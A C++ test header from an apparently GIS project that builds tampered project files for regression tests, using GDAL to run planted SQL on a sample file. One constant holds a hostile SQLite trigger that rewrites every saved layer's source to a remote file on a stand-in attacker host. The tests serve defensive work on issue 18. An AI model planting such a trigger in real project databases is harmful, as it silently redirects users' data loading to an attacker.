#pragma once
// Crafted hostile projects, made by the tests themselves: a copy of sample-data/heraklion.polis with SQL
// planted through GDAL's SQLite connection, as an attacker with sqlite3 would.
#include "fixtures.hpp"

#include <QFile>

#include <string>
#include <vector>

namespace polis::test {

/// The trigger of issue 18: every saved layer row gets its source rewritten to a web address.
inline const char* const kSourceRewriteTrigger =
    "CREATE TRIGGER evil AFTER INSERT ON polis_layers BEGIN "
    "UPDATE polis_layers SET source = '/vsicurl/http://attacker.invalid/x.gpkg'; END";

/// heraklion.polis copied to `dir`/`name` with the statements run on it; "" when that failed.
inline std::string plantedProject(const Scratch& dir, const char* name, const std::vector<std::string>& sql)
{
    const std::string path = dir.tmp(name);
    QFile::remove(QString::fromStdString(path));
    if (!QFile::copy(QString::fromStdString(sample("heraklion.polis")), QString::fromStdString(path)))
        return {};
    GDALDatasetUniquePtr ds(GDALDataset::Open(path.c_str(), GDAL_OF_VECTOR | GDAL_OF_UPDATE));
    if (!ds)
        return {};
    for (const std::string& statement : sql) {
        CPLErrorReset();
        if (OGRLayer* result = ds->ExecuteSQL(statement.c_str(), nullptr, nullptr))
            ds->ReleaseResultSet(result);
        if (CPLGetLastErrorType() >= CE_Failure)
            return {};
    }
    return path;
}

} // namespace polis::test
